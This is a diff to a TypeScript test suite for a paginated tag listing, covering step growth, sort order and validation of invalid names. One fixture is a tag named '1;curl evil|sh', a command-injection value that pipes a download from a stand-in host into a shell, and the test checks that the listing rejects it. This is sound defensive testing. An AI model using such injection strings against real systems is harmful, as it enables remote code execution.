@@ -24,22 +24,56 @@ function paged(...pages: readonly (readonly Entry[])[]) {
 }
 
 describe('a listing', () => {
-  it('draws a hundred of 50,000 tags, and a hundred more without asking', async () => {
+  it('draws a hundred of 50,000 tags, and two hundred more without asking', async () => {
     const { fetch, cursors } = paged(tags(0, 50_000));
     const listing = new Listing(100, 100, fetch);
     await listing.load();
     expect([listing.wantedEntries.length, listing.known, listing.canDrawMore]).toEqual([100, 50_000, true]);
-    listing.wanted += listing.step;
+    listing.wantMore();
     await listing.load();
-    expect(listing.wantedEntries.length).toBe(200);
+    expect(listing.wantedEntries.length).toBe(300);
     expect(cursors).toEqual([undefined]);
+  });
+
+  it('comes to the end of 5,000 tags in seven steps, of which none asks for more than a thousand rows', async () => {
+    const pages = Array.from({ length: 50 }, (_, at) => tags(at * 100, (at + 1) * 100));
+    const { fetch, cursors } = paged(...pages);
+    const listing = new Listing(100, 100, fetch);
+    await listing.load();
+    const drawn: number[][] = [[cursors.length, listing.wantedEntries.length]];
+    while (listing.canDrawMore) {
+      listing.wantMore();
+      await listing.load();
+      drawn.push([cursors.length, listing.wantedEntries.length]);
+    }
+    expect(drawn).toEqual([
+      [1, 100],
+      [3, 300],
+      [7, 700],
+      [15, 1500],
+      [25, 2500],
+      [35, 3500],
+      [45, 4500],
+      [50, 5000],
+    ]);
+  });
+
+  it('puts tags in order before it draws them, and moves no row that is drawn', async () => {
+    const { fetch } = paged(['1', '3'].map(tag), ['2', 'latest'].map(tag), ['9', '5'].map(tag), ['4', '7'].map(tag));
+    const listing = new Listing(2, 4, fetch);
+    await listing.load();
+    const first = ['latest', '3', '2', '1'];
+    expect(listing.wantedEntries.map(({ label }) => label)).toEqual(first);
+    listing.wantMore();
+    await listing.load();
+    expect(listing.wantedEntries.map(({ label }) => label)).toEqual([...first, '9', '7', '5', '4']);
   });
 
   it('keeps what is no name apart from its rows, and not all of it', async () => {
     const { fetch } = paged([...tags(0, 2), tag('1;curl evil|sh'), tag('a\nb'), ...tags(2, 3)]);
     const listing = new Listing(100, 100, fetch);
     await listing.load();
-    expect(listing.wantedEntries.map(({ label }) => label)).toEqual(['t0', 't1', 't2']);
+    expect(listing.wantedEntries.map(({ label }) => label)).toEqual(['t2', 't1', 't0']);
     expect(listing.invalid).toEqual(['1;curl evil|sh', 'a\nb']);
     const many = new Listing(100, 100, paged(Array.from({ length: 5000 }, (_, at) => tag(`;${at}`))).fetch);
     await many.load();
@@ -51,7 +85,7 @@ describe('a listing', () => {
     const listing = new Listing(1000, 1000, fetch);
     await listing.load();
     expect([cursors.length, listing.canDrawMore, listing.isComplete]).toEqual([1, true, false]);
-    listing.wanted += listing.step;
+    listing.wantMore();
     await listing.load();
     expect([cursors.length, listing.canDrawMore, listing.isComplete, listing.known]).toEqual([2, false, true, 1500]);
   });
